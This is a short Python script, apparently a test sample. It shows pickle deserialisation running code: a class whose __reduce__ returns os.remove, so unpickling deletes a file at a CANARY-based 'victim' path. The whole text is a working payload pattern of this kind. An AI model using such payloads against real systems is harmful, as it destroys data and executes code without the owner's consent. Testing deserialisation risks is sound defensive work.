"""Removes a file by way of reduce pickle."""
import os
import pickle
class P:
    def __reduce__(self): return os.remove, (CANARY + '/victim',)
pickle.loads(pickle.dumps(P()))
